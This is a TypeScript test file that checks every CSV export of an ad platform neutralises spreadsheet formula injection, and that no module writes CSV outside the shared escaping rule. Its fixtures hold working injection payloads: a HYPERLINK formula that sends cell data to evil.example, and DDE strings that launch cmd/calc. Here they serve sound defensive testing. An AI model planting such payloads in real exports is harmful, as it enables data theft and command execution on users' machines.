// Every CSV the product writes neutralises formula injection (issue 14, Security; decision 051). Formulas
// are planted in the data each writer writes (straight into the database, past every validator, so the
// writer alone must make them safe), each writer is called the way a user gets its file, and every cell of
// the file is checked against the one rule (platform/rules/csv.ts, which platform/csv.ts applies): no
// cell starts with = + - @ tab or CR unless it is a plain number, and the planted text is there, quoted.
// Then, by construction: every module that writes CSV is one of the writers tested here, and nothing
// builds CSV text around the rule (papaparse's unparse only in platform/csv.ts; text/csv answers and
// `.join(',')` only in writers or in the listed modules that pass a file through or write no CSV).
import { readdirSync, readFileSync } from 'node:fs'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path, { join, relative, resolve, sep } from 'node:path'
import { sql } from 'drizzle-orm'
import Papa from 'papaparse'
import ts from 'typescript'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ownerAuth } from './analytics/report-entities'
import { resolveReport } from './analytics/report-engine'
import { writeReportCsv } from './analytics/report-files'
import { AUTH_BASE } from './auth'
import { BILLING_REPORTS, BILLING_UPLOADS } from './contracts/billing'
import { INVENTORY_BASE } from './inventory'
import { metadataUploadInit, zipOf } from './inventory/metadata-testing'
import { PAYMENTS_BASE } from './payments'
import { neutraliseCell } from './rules/csv'
import { csvOf } from './rules/editor-downloads'
import { createTestPlatform, type TestPlatform } from './testing/platform'
import { multipartBody, multipartContentType } from './uploads/test-streams'

/** Text a spreadsheet would evaluate: each kind of formula start the rule knows. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const
/** What the rule writes for a planted formula: a single quote in front. */
const neutralised = (formula: string) => `'${formula}`
const FORMULA_START = /^[=+\-@\t\r]/
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/

let t: TestPlatform
let superadmin: string
let ops: string
let agencyId: number
let dataDir: string

/** Planted: account (seller/brand) names, user names, campaign names, billing notes and reasons. */
const plantedAccount = FORMULAS[0]
const plantedUser = FORMULAS[3]
const plantedCampaign = FORMULAS[1]
const plantedNote = FORMULAS[2]
const plantedReason = FORMULAS[4]

beforeAll(async () => {
  t = await createTestPlatform()
  superadmin = await t.tokenFor('superadmin@example.com')
  ops = await t.tokenFor('ops@example.com')
  agencyId = (await t.userByEmail('agency@example.com')).id
  dataDir = await mkdtemp(path.join(tmpdir(), 'csv-writers-'))
  // Each row gets its table's formula, then its id (so rows stay distinct and the cell still starts with
  // the formula).
  await t.db.execute(sql`update accounts set name = ${plantedAccount} || ' #' || id`)
  await t.db.execute(
    sql`update users set name = ${plantedUser} || ' #' || id where role in ('AGENCY', 'BRAND', 'SELLER')`,
  )
  await t.db.execute(sql`update campaigns set name = ${plantedCampaign} || ' #' || id`)
  await t.db.execute(sql`update credit_limits set note = ${plantedNote}`)
  await t.db.execute(sql`update promo_credits set reason = ${plantedReason}`)
})
afterAll(async () => {
  await t?.close()
  if (dataDir) await rm(dataDir, { recursive: true, force: true })
})

/** Every cell of a CSV text (header included). */
function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true, delimiter: ',' })
  expect(parsed.errors).toEqual([])
  return parsed.data.flat()
}

/** No cell a spreadsheet would evaluate, and the planted formula is in the file, neutralised. */
function expectNeutralised(csv: string, planted: string) {
  const cells = cellsOf(csv)
  const evaluated = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))
  expect(evaluated).toEqual([])
  // The planted text reached the file (else the check above proved nothing).
  expect(cells.some((cell) => cell.startsWith(neutralised(planted)))).toBe(true)
}

async function csvAnswer(path: string, token: string) {
  const response = await t.request(path, { token })
  expect(response.status).toBe(200)
  expect(response.headers.get('content-type')).toMatch(/^text\/csv/)
  return response.text()
}

type Writer = {
  name: string
  /** The module that writes the CSV text. */
  source: string
  check: () => Promise<void>
}

const writers: Writer[] = [
  {
    name: 'the campaign list download (GET /v1/campaign/download)',
    source: 'platform/inventory/campaign-download.ts',
    check: async () =>
      expectNeutralised(
        await csvAnswer(
          `${INVENTORY_BASE}/v1/campaign/download?userId=100001&dateFilterType=LAST_30D`,
          superadmin,
        ),
        plantedCampaign,
      ),
  },
  {
    name: 'an agency’s linked brands and a brand’s linked agencies (?format=csv)',
    source: 'platform/auth/links.ts',
    check: async () => {
      expectNeutralised(
        await csvAnswer(`${AUTH_BASE}/v1/linkedBrands/${agencyId}?format=csv`, superadmin),
        plantedAccount,
      )
      const linked = cellsOf(
        await csvAnswer(`${AUTH_BASE}/v1/linkedBrands/${agencyId}?format=csv`, superadmin),
      )
      const brandId = linked.find((cell) => /^\d{6,}$/.test(cell))
      expect(brandId).toBeDefined()
      expectNeutralised(
        await csvAnswer(`${AUTH_BASE}/v1/linkedAgencies/${brandId}?format=csv`, superadmin),
        plantedUser,
      )
    },
  },
  {
    name: 'user management: all advertisers and an agency’s brand list',
    source: 'platform/auth/user-management.ts',
    check: async () => {
      expectNeutralised(
        await csvAnswer(`${AUTH_BASE}/v1/userManagement/downloadProfileDetails`, ops),
        plantedUser,
      )
      expectNeutralised(
        await csvAnswer(`${AUTH_BASE}/v1/userManagement/brandDetails/agency%40example.com`, ops),
        plantedAccount,
      )
    },
  },
  {
    name: 'the three billing reports',
    source: 'platform/payments/billing-reports.ts',
    check: async () => {
      const planted = {
        'credit-limits': plantedNote,
        'promo-credits': plantedReason,
        overall: plantedAccount,
      }
      for (const [report, { call }] of Object.entries(BILLING_REPORTS)) {
        const csv = await csvAnswer(`${PAYMENTS_BASE}/payment/test/${call}`, superadmin)
        expectNeutralised(csv, planted[report as keyof typeof planted])
        // The seller's name is in every one of them.
        expect(cellsOf(csv).some((cell) => cell.startsWith(neutralised(plantedAccount)))).toBe(true)
      }
    },
  },
  {
    name: 'a report file (saved, scheduled and default reports; served as stored by downloads.ts)',
    source: 'platform/analytics/report-files.ts',
    check: async () => {
      const auth = (await ownerAuth(t.db, (await t.userByEmail('seller@example.com')).id))!
      const report = await resolveReport(
        t.db,
        auth,
        100001,
        {
          reportType: 'CAMPAIGN_PERFORMANCE_REPORT',
          isRegenerate: false,
          isDefault: false,
          dateFilter: { dateFilterType: 'LAST_30D', fromDate: null, toDate: null },
          reportMetaData: { isSaved: true },
          dimensionFields: { campaign_id: true, campaign_name: true },
          metricFields: { clicks: true },
          filters: null,
          scheduleDetails: null,
        },
        t.deps.now(),
      )
      const entityId = '6f1c1f4e-2d36-4c49-9a55-8d3a2e1b0c51'
      const file = await writeReportCsv({ dataDir }, t.db, report, { entityId, runId: 1 })
      expectNeutralised(await readFile(path.join(dataDir, file.filePath), 'utf8'), plantedCampaign)
    },
  },
  {
    name: 'an upload’s error report (billing uploads; the upload kit)',
    source: 'platform/uploads/csv-import.ts',
    check: async () => {
      const { call, columns } = BILLING_UPLOADS.promoCredits
      const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`
      // Every refused cell is echoed in the report: a formula in each column.
      const rows = FORMULAS.map((formula) => columns.map(() => quote(formula)).join(','))
      const response = await t.request(`${PAYMENTS_BASE}/payment/post-paid/${call}`, {
        method: 'POST',
        token: superadmin,
        headers: { 'content-type': multipartContentType },
        body: multipartBody({
          name: 'promo.csv',
          text: `${columns.map((c) => c.header).join(',')}\n${rows.join('\n')}\n`,
        }),
      })
      expect(response.status).toBe(400)
      const report: string = (await response.json()).data.errorReport
      // The kit trims a cell before it checks it, so a leading tab or CR is gone from the echo.
      for (const formula of FORMULAS) expectNeutralised(report, formula.trim())
    },
  },
  {
    name: 'the keyword metadata error report',
    source: 'platform/inventory/metadata-import.ts',
    check: async () => {
      const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`
      const rows = FORMULAS.map((formula, i) => `${quote(formula)},${i % 2 ? quote(formula) : '10234501'}`)
      const response = await t.request(
        `${INVENTORY_BASE}/v1/metadata/keyword`,
        metadataUploadInit(
          zipOf({ 'keywords.csv': `keywords,product_ids\n${rows.join('\n')}\n` }),
          superadmin,
        ),
      )
      expect(response.status).toBe(400)
      const report: string = (await response.json()).data.metadataErrorReport
      // The kit trims a cell before it checks it, so a leading tab or CR is gone from the echo.
      for (const formula of FORMULAS) expectNeutralised(report, formula.trim())
    },
  },
  {
    name: 'the campaign editor’s product and keyword downloads (written in the browser, or answered to a post)',
    source: 'platform/rules/editor-downloads.ts',
    check: async () => {
      const keywords = csvOf(
        'keywords',
        FORMULAS.map((formula, i) => ({ keyword: formula, match_type: 1 as const, bid_price: i + 0.5 })),
      )
      const products = csvOf(
        'products',
        FORMULAS.map((formula, i) => ({
          productId: i + 1,
          name: formula,
          imageUrl: null,
          price: 1,
          tag: formula,
        })),
      )
      const suggestions = csvOf(
        'suggestions',
        FORMULAS.map((formula) => ({ keyword: formula, bid: 2 })),
      )
      for (const { text } of [keywords, products, suggestions])
        for (const formula of FORMULAS) expectNeutralised(text, formula)
    },
  },
]

describe('every CSV writer neutralises planted formulas', () => {
  it.each(writers.map((w) => [w.name, w] as const))('%s', async (_name, writer) => {
    await writer.check()
  })

  it('the sample files the pages offer hold no formula cell', () => {
    const dir = join(root, 'public/files')
    const samples = readdirSync(dir).filter((name) => name.endsWith('.csv'))
    expect(samples.length).toBeGreaterThan(5)
    for (const name of samples) {
      const cells = cellsOf(readFileSync(join(dir, name), 'utf8'))
      expect(
        cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell)),
        name,
      ).toEqual([])
    }
  })

  it('the rule: exactly the formula starts get a quote; numbers and other text are left alone', () => {
    for (const formula of FORMULAS) expect(neutraliseCell(formula)).toBe(neutralised(formula))
    for (const plain of ['-12.50', '100', 'Diwali sale', "'already", ' =spaced', 12, -3, null])
      expect(neutraliseCell(plain)).toBe(plain)
  })
})

// ---------------------------------------------------------------------------------------------
// By construction
// ---------------------------------------------------------------------------------------------
const root = resolve(__dirname, '..')

function sourceFiles(): string[] {
  return ['app', 'platform', 'server']
    .flatMap((dir) => readdirSync(join(root, dir), { withFileTypes: true, recursive: true }))
    .filter((e) => e.isFile() && /\.(ts|tsx)$/.test(e.name) && !/\.test\.tsx?$/.test(e.name))
    .map((e) => relative(root, join(e.parentPath, e.name)).split(sep).join('/'))
    .filter((f) => !f.includes('node_modules') && !f.includes('/testing/') && !/\/test-[^/]*$/.test(f))
}

/** The rule's own modules: the rule, papaparse's file writer, the fast line writer's old name. */
const RULE = ['platform/rules/csv.ts', 'platform/csv.ts', 'platform/analytics/report-csv.ts']
/** The writing functions of the rule's modules. */
const WRITE_FUNCTIONS = new Set(['toCsv', 'csvLines', 'reportCsvLines'])

type Finding = { file: string; what: 'imports a writer' | 'unparse' | 'text/csv answer' | "join(',')" }

function findings(file: string): Finding[] {
  const text = readFileSync(join(root, file), 'utf8')
  const source = ts.createSourceFile(file, text, ts.ScriptTarget.Latest, true)
  const found: Finding[] = []
  const visit = (node: ts.Node) => {
    if (
      ts.isImportDeclaration(node) &&
      node.importClause?.namedBindings &&
      ts.isNamedImports(node.importClause.namedBindings)
    ) {
      const names = node.importClause.namedBindings.elements.map((e) => (e.propertyName ?? e.name).text)
      if (names.some((name) => WRITE_FUNCTIONS.has(name))) found.push({ file, what: 'imports a writer' })
    }
    if (ts.isPropertyAccessExpression(node) && node.name.text === 'unparse')
      found.push({ file, what: 'unparse' })
    if (
      (ts.isStringLiteral(node) || ts.isNoSubstitutionTemplateLiteral(node) || ts.isTemplateHead(node)) &&
      /text\/csv/.test(node.text)
    ) {
      const parent = node.parent
      const isAnswerHeader =
        // c.header('Content-Type', 'text/csv…'), headers: { 'content-type': 'text/csv…' }, a data: link
        (ts.isCallExpression(parent) &&
          ts.isPropertyAccessExpression(parent.expression) &&
          parent.expression.name.text === 'header') ||
        (ts.isPropertyAssignment(parent) && /content-type/i.test(parent.name.getText(source))) ||
        node.text.startsWith('data:text/csv')
      if (isAnswerHeader) found.push({ file, what: 'text/csv answer' })
    }
    if (
      ts.isCallExpression(node) &&
      ts.isPropertyAccessExpression(node.expression) &&
      node.expression.name.text === 'join' &&
      node.arguments.length === 1 &&
      ts.isStringLiteralLike(node.arguments[0]!) &&
      (node.arguments[0] as ts.StringLiteralLike).text === ','
    )
      found.push({ file, what: "join(',')" })
    ts.forEachChild(node, visit)
  }
  visit(source)
  return found
}

/**
 * Modules that answer text/csv or join with commas without writing a CSV of their own data, and why.
 * Anything else that does must be a writer tested above.
 */
const NOT_WRITERS: Record<string, string> = {
  'platform/analytics/downloads.ts': 'serves a report file as stored (written by report-files.ts)',
  'app/components/upload/CsvUploadForm.tsx':
    "links to the platform's error report as it came (csv-import.ts)",
  'app/models/auth.server.ts': 'a query parameter (pincodes=1,2,3), not a file',
  'platform/rules/campaign-editor-csv.ts': 'names the expected header in a message',
  'platform/analytics/facts.ts': 'compares the header of a CSV it reads; names it in a message',
  'app/models/adgroup-downloads.ts': 'answers a file written by platform/rules/editor-downloads.ts',
}

describe('no module writes CSV around the rule', () => {
  const all = sourceFiles().flatMap(findings)

  it('scans the sources', () => {
    expect(all.filter((f) => f.what === 'imports a writer').length).toBeGreaterThan(5)
    expect(all.filter((f) => f.what === 'text/csv answer').length).toBeGreaterThan(5)
  })

  it("uses papaparse's unparse only in platform/csv.ts", () => {
    expect([...new Set(all.filter((f) => f.what === 'unparse').map((f) => f.file))]).toEqual([
      'platform/csv.ts',
    ])
  })

  it('every module that writes CSV (a writer, a text/csv answer, a comma join) is a tested writer or listed', () => {
    const writing = new Set(all.map((f) => f.file).filter((file) => !RULE.includes(file)))
    const tested = new Set(writers.map((w) => w.source))
    const unexplained = [...writing].filter((file) => !tested.has(file) && !(file in NOT_WRITERS)).sort()
    expect(unexplained).toEqual([])
    // A listed module that no longer does any of it leaves the list.
    expect(Object.keys(NOT_WRITERS).filter((file) => !writing.has(file))).toEqual([])
  })

  it('every module that imports a writing function has its own case above', () => {
    const importers = new Set(
      all.filter((f) => f.what === 'imports a writer' && !RULE.includes(f.file)).map((f) => f.file),
    )
    // csv-import.ts's consumers write through it (billing uploads, metadata) — they import no writer.
    expect([...importers].filter((file) => !writers.some((w) => w.source === file)).sort()).toEqual([])
  })
})
